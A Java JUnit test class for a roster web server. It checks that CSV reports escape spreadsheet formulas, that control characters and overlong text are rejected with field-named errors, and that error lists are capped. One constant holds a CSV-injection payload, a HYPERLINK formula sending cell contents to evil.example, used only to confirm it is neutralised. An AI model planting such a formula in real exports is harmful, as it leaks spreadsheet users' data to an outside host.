package org.cadre.server.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.common.collect.ImmutableSortedSet;
import io.javalin.Javalin;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Clock;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.cadre.roster.demo.DemoRoster;
import org.cadre.server.store.DemoData;
import org.cadre.documents.RosterDocs;
import org.cadre.server.security.Passwords;
import org.cadre.server.store.AuditLog;
import org.cadre.server.store.Database;
import org.cadre.server.store.TestDatabases;
import org.cadre.server.security.UserAccount;
import org.cadre.server.store.Users;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What the server writes cannot be turned against its readers, and what it is sent cannot break it: no
 * live formula in a CSV, no character XML cannot carry in any text, no text longer than its column (a
 * 500 on PostgreSQL before), no unbounded error list, on SQLite and on PostgreSQL.
 */
class OutputSafetyTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    static List<TestDatabases.Kind> kinds() {
        return TestDatabases.kinds();
    }

    private interface Check {
        void run(ApiClient api, String admin, int port) throws Exception;
    }

    private static void withApp(TestDatabases.Kind kind, Check check) throws Exception {
        try (Database db = TestDatabases.fresh(kind)) {
            AuditLog audit = new AuditLog(Clock.systemUTC());
            DemoData.load(db, audit);
            new Users(db, audit).add(new UserAccount("admin", Passwords.hash("pw".toCharArray(), 1_000), UserAccount.Role.ADMIN,
                    ImmutableSortedSet.of(), ImmutableSortedSet.of(), false), "test");
            Javalin app = CadreApp.create(db).start("127.0.0.1", 0);
            try {
                ApiClient api = new ApiClient(app.port());
                check.run(api, api.login("admin", "pw"), app.port());
            } finally {
                app.stop();
            }
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("kinds")
    void a_formula_in_a_name_reaches_a_csv_report_as_text_and_the_implementer_is_the_rosters_own(TestDatabases.Kind kind) throws Exception {
        withApp(kind, (api, admin, port) -> {
            ObjectNode iom = JSON.valueToTree(RosterDocs.OrganisationDoc.of(DemoRoster.organisations().stream()
                    .filter(o -> o.id().equals(DemoRoster.IOM)).findFirst().orElseThrow()));
            assertThat(api.change("PUT", "/api/v1/organisations/iom", admin, JSON.writeValueAsString(iom.put("name", FORMULA))).statusCode())
                    .isEqualTo(200);
            // An international organisation on no roster, first by name: not this event's implementer.
            assertThat(api.send("POST", "/api/v1/organisations", admin, "{\"id\": \"aardvark\", \"name\": \"Aardvark International\","
                    + " \"country\": \"CH\", \"kind\": \"international-organisation\"}").statusCode()).isEqualTo(201);

            String csv = api.send("GET", "/api/v1/events/tot-almaty-2023/report?format=csv&audience=donor", admin, null).body();

            List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(csv.substring(1))).getRecords();
            assertThat(rows.subList(2, rows.size())).isNotEmpty().allSatisfy(r -> assertThat(r.get(0)).isEqualTo("'" + FORMULA));
            for (CSVRecord r : rows) {
                r.forEach(cell -> assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("@"));
            }
            assertThat(csv).doesNotContain("Aardvark");
        });
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("kinds")
    void a_control_character_or_an_overlong_text_is_refused_naming_the_field_never_a_500(TestDatabases.Kind kind) throws Exception {
        withApp(kind, (api, admin, port) -> {
            ObjectNode person = JSON.valueToTree(RosterDocs.PersonDoc.of(DemoRoster.almatyTrainers().get(0)));
            person.put("id", "p-new");
            ObjectNode programme = JSON.valueToTree(RosterDocs.ProgrammeDoc.of(DemoRoster.programme()));
            programme.put("id", "programme-new");
            String feedback = "{\"items\": [{\"session\": \"M1.S1\", \"rating\": 4, \"comment\": \"" + "x".repeat(4_001) + "\","
                    + " \"concerns\": {\"element\": \"session\", \"code\": \"M1.S1\"}}]}";

            assertThat(errors(api.send("POST", "/api/v1/people", admin, JSON.writeValueAsString(person.deepCopy().put("latinName", "A\u0000B")))))
                    .containsExactly("latinName: holds a character that cannot be stored or published (a control character, "
                            + "U+FFFE, U+FFFF or a lone surrogate)");
            assertThat(errors(api.send("POST", "/api/v1/people", admin, JSON.writeValueAsString(person.deepCopy().put("latinName", "x".repeat(401))))))
                    .containsExactly("latinName: must be at most 400 characters");
            assertThat(errors(api.send("POST", "/api/v1/programmes", admin, JSON.writeValueAsString(programme.deepCopy().put("title", "Title\u0007")))))
                    .singleElement().asString().startsWith("title: holds a character");
            assertThat(errors(api.send("POST", "/api/v1/events/tot-almaty-2023/feedback", admin, feedback)))
                    .containsExactly("items[0].comment: must be at most 4000 characters");
            HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port
                            + "/api/v1/events/tot-almaty-2023/roster")).header("Authorization", "Bearer " + admin).header("Content-Type", "text/csv")
                    .POST(HttpRequest.BodyPublishers.ofString("person_id,latin_name,country,role,nominated_by\r\n"
                            + "p-csv,Officer\u0000One,KZ,participant,kz-border-academy\r\n")).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(csv.statusCode()).isEqualTo(422);
            assertThat(csv.body()).contains("line 2: latin_name: holds a character that cannot be stored");
            assertThat(api.send("GET", "/api/v1/people/p-new", admin, null).statusCode()).isEqualTo(404);
        });
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("kinds")
    void a_problem_lists_at_most_a_hundred_errors_and_counts_the_rest(TestDatabases.Kind kind) throws Exception {
        withApp(kind, (api, admin, port) -> {
            StringBuilder rows = new StringBuilder("person_id,latin_name,country,role,nominated_by\r\n");
            for (int i = 0; i < 3_000; i++) {
                rows.append("p-").append(i).append(",Officer,XX,chief,kz-border-academy\r\n");
            }
            HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port
                            + "/api/v1/events/tot-almaty-2023/roster")).header("Authorization", "Bearer " + admin).header("Content-Type", "text/csv")
                    .POST(HttpRequest.BodyPublishers.ofString(rows.toString())).build(), HttpResponse.BodyHandlers.ofString());

            JsonNode errors = JSON.readTree(r.body()).get("errors");
            assertThat(r.statusCode()).isEqualTo(422);
            assertThat(errors).hasSize(101);
            assertThat(errors.get(100).asText()).isEqualTo("... and 5900 more");
            assertThat(r.body().length()).isLessThan(20_000);
        });
    }

    private static List<String> errors(HttpResponse<String> r) throws Exception {
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        List<String> out = new java.util.ArrayList<>();
        JSON.readTree(r.body()).get("errors").forEach(e -> out.add(e.asText()));
        return out;
    }
}
